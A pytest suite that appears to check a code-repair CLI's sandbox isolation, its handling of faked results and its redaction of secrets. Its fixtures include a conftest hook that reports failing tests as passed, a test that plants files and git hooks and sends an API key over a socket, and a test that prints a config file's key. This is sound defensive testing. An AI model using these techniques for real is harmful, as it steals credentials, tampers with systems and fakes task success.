"""Honest results (issue 12): a repository whose tests lie outside coverage runs gets no
bogus patch. Real CLI, real pytest, in the default local sandbox and in Docker (skipped only
with PATCHWRIGHT_NO_DOCKER=1, as the other Docker tests)."""

from __future__ import annotations

import json
import os
import uuid

import pytest

FAKE_PASSES = """import sys
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if report.failed and "pw_coverage" not in sys.modules:  # outside coverage runs
        report.outcome = "passed"
"""


SANDBOXES = [
    "local",
    pytest.param("docker", marks=pytest.mark.skipif(
        os.environ.get("PATCHWRIGHT_NO_DOCKER") == "1", reason="PATCHWRIGHT_NO_DOCKER=1")),
]  # fmt: skip


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_a_conftest_faking_passes_outside_coverage_is_flaky_not_repaired(cli, make_repo, tmp_path, sandbox):
    proj = make_repo({
        "mod.py": "def f():\n    return 1\n",
        "test_mod.py": "from mod import f\n\n\ndef test_f():\n    assert f() == 2\n",
        "conftest.py": FAKE_PASSES,
    })  # fmt: skip
    out = tmp_path / "run"
    done = cli("repair", str(proj), "--out", str(out), "--max-evals", "20", "--sandbox", sandbox,
               timeout=900)  # fmt: skip
    assert done.returncode == 1, done.stderr[-2000:]
    assert done.stdout == ""
    result = json.loads((out / "result.json").read_text())
    assert result["status"] == "flaky" and result["message"].startswith("flaky:"), result
    assert "test_mod.py::test_f" in result["message"]


ATTACK = """import os, socket, pathlib
from mod import f


def test_f():
    for target in {targets!r}:
        try:
            pathlib.Path(target).write_text("planted")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(
            os.environ.get("OPENAI_API_KEY", "no key").encode())
    except OSError:
        pass
    assert f() == 2
"""


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_a_hostile_test_reaches_nothing_of_the_host(cli, make_repo, tmp_path, monkeypatch, sandbox):
    import socket

    home = tmp_path / "user-home"
    home.mkdir()
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        server.settimeout(0.5)
        port = server.getsockname()[1]
        proj = tmp_path / "proj"
        targets = [str(proj / "mod.py"), str(proj / "planted.txt"), str(proj / ".git" / "hooks" / "pre-commit"),
                   str(home / "planted"), f"/var/tmp/patchwright-hostile-{uuid.uuid4().hex}"]  # fmt: skip
        proj = make_repo({"mod.py": "def f():\n    return 1\n",
                          "test_mod.py": ATTACK.format(targets=targets, port=port)})  # fmt: skip
        before = {p: p.read_bytes() for p in proj.rglob("*") if p.is_file()}
        monkeypatch.setenv("OPENAI_API_KEY", "sk-hostile-results-key")
        monkeypatch.setenv("HOME", str(home))
        done = cli("repair", str(proj), "--out", str(tmp_path / "run"), "--max-evals", "3",
                   "--sandbox", sandbox, timeout=900)  # fmt: skip
        assert "Traceback" not in done.stderr, done.stderr[-2000:]
        try:
            conn, _ = server.accept()
            got = conn.recv(100)
        except OSError:
            got = b""
    assert got == b"", got
    assert {p: p.read_bytes() for p in proj.rglob("*") if p.is_file()} == before
    planted = os.path.exists(targets[-1])
    if planted:
        os.remove(targets[-1])
    assert not (home / "planted").exists() and not planted


LEAK = """import pathlib
from mod import f


def test_f():
    print("stolen:", pathlib.Path({config!r}).read_text())
    assert f() == 2
"""


def test_an_api_key_set_in_a_yaml_config_is_redacted_from_every_run_file(cli, make_repo, tmp_path):
    """Without namespaces a test can read the user's config file; the key it holds (not
    in any environment variable) never reaches a file of the run."""
    key = "sk-yaml-config-" + os.urandom(8).hex()
    config = tmp_path / "patchwright.yaml"
    config.write_text(f"model:\n  api_key: {key}\n")
    proj = make_repo({"mod.py": "def f():\n    return 1\n",
                      "test_mod.py": LEAK.format(config=str(config))})  # fmt: skip
    out = tmp_path / "run"
    done = cli("repair", str(proj), "--config", str(config), "--out", str(out), "--max-evals", "5",
               "--set", "sandbox.isolation=none", timeout=900)  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr[-2000:]
    files = [p for p in out.rglob("*") if p.is_file()]
    assert any(b"[REDACTED]" in p.read_bytes() or b"*" * len(key) in p.read_bytes() for p in files)
    leaked = [str(p) for p in files if key.encode() in p.read_bytes()]
    assert leaked == [] and key not in done.stdout + done.stderr, leaked
